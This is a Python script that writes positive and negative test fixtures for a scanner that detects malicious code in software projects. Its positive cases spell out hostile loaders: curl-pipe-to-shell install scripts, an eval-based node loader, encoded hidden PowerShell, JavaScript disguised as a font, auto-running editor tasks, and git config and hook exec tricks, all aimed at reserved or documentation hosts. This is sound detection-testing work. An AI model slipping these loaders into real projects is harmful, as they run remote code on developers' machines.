#!/usr/bin/env python3
"""Writes the fixture cases of the core rules (issue 3). Inert by construction: every payload host is a reserved
name (.invalid) or a documentation address (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24). Re-run to regenerate."""
import base64, io, json, os, struct, sys, zipfile, zlib

ROOT = os.path.join(os.path.dirname(__file__), '..', 'fixtures', 'rules')

def write(rule, kind, case, files, expect=None):
    base = os.path.join(ROOT, rule, kind, case)
    for rel, content in files.items():
        p = os.path.join(base, rel)
        os.makedirs(os.path.dirname(p), exist_ok=True)
        mode = 'wb' if isinstance(content, bytes) else 'w'
        with open(p, mode) as f:
            f.write(content)
    if expect:
        with open(os.path.join(base, 'expect.json'), 'w') as f:
            json.dump(expect, f)

def pkg(scripts, extra=None):
    d = {"name": "fixture-app", "version": "1.0.0", "private": True, "scripts": scripts}
    if extra: d.update(extra)
    return json.dumps(d, indent=2) + "\n"

def zip_of(files):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, 'w', zipfile.ZIP_DEFLATED) as z:
        for name, content in files.items():
            # A fixed timestamp keeps regenerated archives byte-identical.
            z.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), content, zipfile.ZIP_DEFLATED)
    return buf.getvalue()

def png_1x1():
    def chunk(t, d):
        c = struct.pack('>I', len(d)) + t + d
        return c + struct.pack('>I', zlib.crc32(t + d) & 0xffffffff)
    ihdr = struct.pack('>IIBBBBB', 1, 1, 8, 6, 0, 0, 0)
    idat = zlib.compress(b'\x00\x00\x00\x00\x00')
    return b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', ihdr) + chunk(b'IDAT', idat) + chunk(b'IEND', b'')

FAKE_FONT_JS = "global['!']='9-3012-1';var _$_a1=(function(s){return s.split('').reverse().join('')})('lave');" \
    "require('https').get('https://fonts-cdn.invalid/api/ipcheck-encrypted/77',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>global[_$_a1](d))});\n"
NODE_E_LOADER = "node -e \"require('https').get('https://203.0.113.10/p/4',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})\""
PS_ENC = base64.b64encode("iwr http://198.51.100.7/a.ps1 | iex".encode('utf-16le')).decode()

# lifecycle-script
R = 'lifecycle-script'
write(R, 'positive', 'curl-pipe-postinstall', {'package.json': pkg({"postinstall": "curl -s https://cdn-update.invalid/i.sh | sh"})}, {"minSeverity": "critical"})
write(R, 'positive', 'background-server-preinstall', {'package.json': pkg({"preinstall": "start /b node server || nohup node server &"}), 'server.js': "require('http').createServer(()=>{}).listen(8080);\n"}, {"minSeverity": "critical"})
write(R, 'positive', 'node-e-loader', {'package.json': pkg({"postinstall": NODE_E_LOADER})}, {"minSeverity": "critical"})
write(R, 'positive', 'powershell-encoded', {'package.json': pkg({"preinstall": f"powershell -w hidden -enc {PS_ENC}"})}, {"minSeverity": "critical"})
write(R, 'positive', 'prepare-starts-server', {'package.json': pkg({"prepare": "node server", "start": "node server"}), 'server.js': "require('./routes');\n", 'routes.js': "module.exports = {};\n"}, {"minSeverity": "high"})
write(R, 'positive', 'runs-fake-font', {'package.json': pkg({"postinstall": "node public/fonts/fa-solid-400.woff2"}), 'public/fonts/fa-solid-400.woff2': FAKE_FONT_JS}, {"minSeverity": "critical"})
write(R, 'positive', 'follows-shell-script', {'package.json': pkg({"postinstall": "sh scripts/setup.sh"}), 'scripts/setup.sh': "#!/bin/sh\n# set up local certificates\nset -e\ncurl -fsSL http://198.51.100.44/setup | bash\n"}, {"minSeverity": "critical"})
write(R, 'negative', 'husky-prepare', {'package.json': pkg({"prepare": "husky", "test": "mocha"})})
write(R, 'negative', 'prisma-generate', {'package.json': pkg({"postinstall": "prisma generate"})})
write(R, 'negative', 'node-gyp-rebuild', {'package.json': pkg({"install": "node-gyp rebuild"}), 'binding.gyp': "{ 'targets': [ { 'target_name': 'addon', 'sources': [ 'src/addon.cc' ] } ] }\n"})
write(R, 'negative', 'esbuild-style-install', {'package.json': pkg({"postinstall": "node install.js"}), 'install.js': "// Picks the platform binary package that npm installed as an optional dependency.\nconst path = require('path');\nconsole.log(path.join(__dirname, 'bin'));\n"})
write(R, 'negative', 'prebuild-fallback', {'package.json': pkg({"install": "prebuild-install || node-gyp rebuild"})})
write(R, 'negative', 'is-ci-husky', {'package.json': pkg({"prepare": "is-ci || husky install"})})

# editor-task-autorun
R = 'editor-task-autorun'
def tasks(ts):
    return "// VS Code tasks\n" + json.dumps({"version": "2.0.0", "tasks": ts}, indent=2) + "\n"
write(R, 'positive', 'curl-per-os', {'.vscode/tasks.json': tasks([{"label": "env", "type": "shell",
    "osx": {"command": "curl -s 'https://settings-sync.invalid/settings/mac?flag=5' | sh"},
    "linux": {"command": "curl -s 'https://settings-sync.invalid/settings/linux?flag=5' | sh"},
    "windows": {"command": "curl -s https://settings-sync.invalid/settings/windows?flag=5 | cmd"},
    "presentation": {"reveal": "never", "echo": False}, "runOptions": {"runOn": "folderOpen"}}])}, {"minSeverity": "critical"})
write(R, 'positive', 'node-e-https', {'.vscode/tasks.json': tasks([{"label": "install-root-modules", "type": "shell",
    "command": NODE_E_LOADER, "runOptions": {"runOn": "folderOpen"}}])}, {"minSeverity": "critical"})
write(R, 'positive', 'runs-fake-font', {'.vscode/tasks.json': tasks([{"label": "start", "type": "shell", "command": "node ./public/fonts/fa-solid-400.woff2",
    "presentation": {"reveal": "silent"}, "runOptions": {"runOn": "folderOpen"}}]), 'public/fonts/fa-solid-400.woff2': FAKE_FONT_JS}, {"minSeverity": "critical"})
write(R, 'positive', 'npm-install-runs-loader', {'.vscode/tasks.json': tasks([{"label": "deps", "type": "shell", "command": "npm install", "runOptions": {"runOn": "folderOpen"}}]),
    'package.json': pkg({"prepare": "start /b node server || nohup node server &"}), 'server.js': "require('./app');\n"}, {"minSeverity": "critical"})
write(R, 'positive', 'code-workspace-task', {'project.code-workspace': json.dumps({"folders": [{"path": "."}], "tasks": {"version": "2.0.0", "tasks": [
    {"label": "boot", "type": "shell", "command": "wget -qO- http://192.0.2.80:1224/pdown | sh", "runOptions": {"runOn": "folderOpen"}}]}}, indent=2)}, {"minSeverity": "critical"})
write(R, 'positive', 'depends-on-hidden', {'.vscode/tasks.json': tasks([
    {"label": "open", "dependsOn": ["sync"], "runOptions": {"runOn": "folderOpen"}},
    {"label": "sync", "type": "shell", "command": "bash -c \"curl -s https://cfg.invalid/l | bash\"", "presentation": {"reveal": "never", "close": True}}])}, {"minSeverity": "critical"})
write(R, 'positive', 'npm-type-task', {'.vscode/tasks.json': tasks([{"label": "npm: setup", "type": "npm", "script": "setup", "runOptions": {"runOn": "folderOpen"}}]),
    'package.json': pkg({"setup": "curl -s http://198.51.100.31/s | bash"})}, {"minSeverity": "critical"})
write(R, 'negative', 'ensure-deps-hidden', {'.vscode/tasks.json': tasks([{"label": "ensure-deps", "type": "shell", "linux": {"command": "test -d node_modules || npm ci"},
    "windows": {"command": "if not exist node_modules npm ci"}, "presentation": {"reveal": "never", "close": True}, "runOptions": {"runOn": "folderOpen"}}]),
    'package.json': pkg({"build": "tsc"})}, {"maxSeverity": "high"})
write(R, 'negative', 'watch-on-open', {'.vscode/tasks.json': tasks([{"label": "watch", "type": "npm", "script": "watch", "command": "npm run watch", "runOptions": {"runOn": "folderOpen"}}]),
    'package.json': pkg({"watch": "tsc -w"})}, {"maxSeverity": "medium"})
write(R, 'negative', 'tsc-watch-on-open', {'.vscode/tasks.json': tasks([{"label": "tsc", "type": "shell", "command": "tsc -w -p .", "runOptions": {"runOn": "folderOpen"}}])}, {"maxSeverity": "medium"})
write(R, 'negative', 'manual-build-task', {'.vscode/tasks.json': tasks([{"label": "build", "type": "shell", "command": "npm run build", "group": "build"}])})

# editor-automatic-tasks
R = 'editor-automatic-tasks'
write(R, 'positive', 'allow-automatic-on', {'.vscode/settings.json': '{\n  "editor.formatOnSave": true,\n  // let the setup task run\n  "task.allowAutomaticTasks": "on",\n}\n'})
write(R, 'negative', 'allow-automatic-off', {'.vscode/settings.json': '{\n  "editor.formatOnSave": true,\n  "task.allowAutomaticTasks": "off"\n}\n'})
write(R, 'negative', 'ordinary-settings', {'.vscode/settings.json': '{\n  "editor.tabSize": 2,\n  "files.exclude": { "**/node_modules": true }\n}\n'})

# devcontainer-command
R = 'devcontainer-command'
write(R, 'positive', 'initialize-curl', {'.devcontainer/devcontainer.json': '{\n  "name": "app",\n  "image": "mcr.microsoft.com/devcontainers/javascript-node:20",\n  // host-side setup\n  "initializeCommand": "curl -fsSL https://devenv.invalid/bootstrap | bash",\n}\n'}, {"minSeverity": "critical"})
write(R, 'positive', 'postcreate-c2', {'.devcontainer.json': json.dumps({"image": "node:20", "postCreateCommand": "npm ci && node -e \"fetch('http://203.0.113.9:1224/client/5/501').then(r=>r.text()).then(eval)\""}, indent=2)}, {"minSeverity": "critical"})
write(R, 'negative', 'npm-ci', {'.devcontainer/devcontainer.json': json.dumps({"image": "mcr.microsoft.com/devcontainers/typescript-node:20", "postCreateCommand": "npm ci", "onCreateCommand": ["npm", "install"]}, indent=2)})
write(R, 'negative', 'features-only', {'.devcontainer/devcontainer.json': json.dumps({"image": "node:20", "features": {"ghcr.io/devcontainers/features/github-cli:1": {}}, "postStartCommand": "git config --global --add safe.directory ${containerWorkspaceFolder}"}, indent=2)}, {"maxSeverity": "low"})

# git-hook-command
R = 'git-hook-command'
write(R, 'positive', 'husky-curl', {'.husky/pre-commit': "#!/usr/bin/env sh\nnpx lint-staged\ncurl -s https://hooks.invalid/c | sh\n"}, {"minSeverity": "critical"})
write(R, 'positive', 'lefthook-node-e', {'lefthook.yml': "pre-commit:\n  commands:\n    lint:\n      run: npx eslint .\n    sync:\n      run: " + NODE_E_LOADER.replace('"', "'", 0) + "\n"}, {"minSeverity": "high"})
write(R, 'positive', 'simple-git-hooks-background', {'package.json': pkg({"test": "mocha"}, {"simple-git-hooks": {"post-merge": "nohup node .cache/sync.js > /dev/null 2>&1 &"}})}, {"minSeverity": "critical"})
write(R, 'positive', 'archive-dot-git-hook', {'archive.zip': zip_of({'project/README.md': '# project\n', 'project/.git/HEAD': 'ref: refs/heads/main\n',
    'project/.git/hooks/post-checkout': "#!/bin/sh\nnode -e \"require('http').get('http://198.51.100.3/h',r=>r.pipe(require('fs').createWriteStream('/tmp/.h')))\"\n"})}, {"minSeverity": "high"})
write(R, 'negative', 'husky-lint-staged', {'.husky/pre-commit': "npx lint-staged\n", '.husky/pre-push': "npm test\n"})
write(R, 'negative', 'simple-git-hooks-lint', {'package.json': pkg({"test": "mocha"}, {"simple-git-hooks": {"pre-commit": "npx lint-staged"}})})

# git-config-exec
R = 'git-config-exec'
GIT_CONFIG_BAD = "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = \"node .git/fsm.js\"\n[filter \"lfs\"]\n\tsmudge = sh -c 'curl -s https://lfs.invalid/s | sh'\n"
write(R, 'positive', 'fsmonitor-in-zip', {'archive.zip': zip_of({'task/README.md': '# task\n', 'task/.git/HEAD': 'ref: refs/heads/main\n', 'task/.git/config': GIT_CONFIG_BAD})}, {"minSeverity": "critical"})
write(R, 'positive', 'sshcommand-in-zip', {'archive.zip': zip_of({'task/.git/HEAD': 'ref: refs/heads/main\n', 'task/.git/config': "[core]\n\tsshCommand = ssh -o ProxyCommand='nc 192.0.2.5 22'\n"})}, {"minSeverity": "high"})
write(R, 'negative', 'ordinary-clone-config', {'archive.zip': zip_of({'task/.git/HEAD': 'ref: refs/heads/main\n', 'task/.git/config': "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\tlogallrefupdates = true\n\tfsmonitor = false\n[remote \"origin\"]\n\turl = https://example.com/team/task.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n[alias]\n\tco = checkout\n"})})

# disguised-file-type
R = 'disguised-file-type'
write(R, 'positive', 'js-in-woff2', {'public/fonts/fa-solid-400.woff2': FAKE_FONT_JS}, {"minSeverity": "high"})
write(R, 'positive', 'js-in-woff2-run-by-task', {'public/fonts/fa-brands-400.woff2': FAKE_FONT_JS, '.vscode/tasks.json': tasks([{"label": "fonts", "type": "shell", "command": "node public/fonts/fa-brands-400.woff2", "runOptions": {"runOn": "folderOpen"}}])}, {"minSeverity": "critical"})
write(R, 'positive', 'js-in-png', {'src/assets/logo.png': "const c=require('child_process');c.exec('curl -s http://192.0.2.14/x | sh');\n"}, {"minSeverity": "high"})
write(R, 'negative', 'real-font-and-image', {'public/fonts/inter.woff2': b'wOF2\x00\x01\x00\x00' + bytes(range(256)) * 4, 'public/img/logo.png': png_1x1(), 'public/favicon.ico': b'\x00\x00\x01\x00\x01\x00\x10\x10' + bytes(64)})

# c2-url
R = 'c2-url'
write(R, 'positive', 'ip-port-1224', {'src/config.js': "module.exports = {\n  api: 'http://198.51.100.23:1224/pdown',\n  timeout: 5000,\n};\n"}, {"minSeverity": "critical"})
write(R, 'positive', 'known-indicator', {'server/config/env.js': "// published indicator kept as a string for the scanner's own tests\nexport const DB_API = 'https://api.npoint.io/f128c1c1135e7bb1779d';\n"}, {"minSeverity": "critical"})
write(R, 'positive', 'ipcheck-encrypted', {'backend/src/constants/index.js': "export const REGION_API = 'https://region-check.invalid/api/ipcheck-encrypted/602076';\n"}, {"minSeverity": "critical"})
write(R, 'negative', 'localhost-1224', {'src/dev.js': "const url = 'http://localhost:1224/api/health';\nconst other = 'http://127.0.0.1:1224/uploads';\n"})
write(R, 'negative', 'ordinary-urls', {'src/api.js': "fetch('https://api.github.com/repos/x/y');\nconst docs = 'https://nodejs.org/api/fs.html';\n"})
write(R, 'negative', 'security-docs-quote', {'docs/threats.md': "# Indicators we block\n\n- `https://api.npoint.io/f128c1c1135e7bb1779d` (dead drop)\n- `http://198.51.100.9:1224/pdown`\n"})

# prebuilt-binary
R = 'prebuilt-binary'
write(R, 'positive', 'exe-in-src', {'bin/updater.exe': b'MZ' + bytes(126), 'package.json': pkg({"start": "node index.js"})})
write(R, 'positive', 'elf-without-extension', {'tools/helper': b'\x7fELF\x02\x01\x01' + bytes(120)})
write(R, 'positive', 'run-by-script', {'package.json': pkg({"postinstall": "./vendor/setup.node"}), 'vendor/setup.node': b'\x7fELF\x02\x01\x01' + bytes(120)}, {"minSeverity": "high"})
write(R, 'negative', 'gradle-wrapper', {'gradle/wrapper/gradle-wrapper.jar': b'PK\x03\x04' + bytes(60), 'build.gradle': "plugins { id 'java' }\n"})
write(R, 'negative', 'source-only', {'src/index.js': "console.log('hello');\n", 'README.md': '# demo\n'})
print('fixtures written')
